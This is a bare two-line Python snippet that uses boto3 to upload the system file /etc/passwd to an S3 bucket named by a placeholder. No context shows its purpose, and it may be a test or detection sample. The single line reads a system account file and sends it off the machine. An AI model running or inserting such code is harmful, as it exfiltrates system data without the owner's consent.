import boto3

boto3.client("s3").upload_file("/etc/passwd", "bucket", "key")
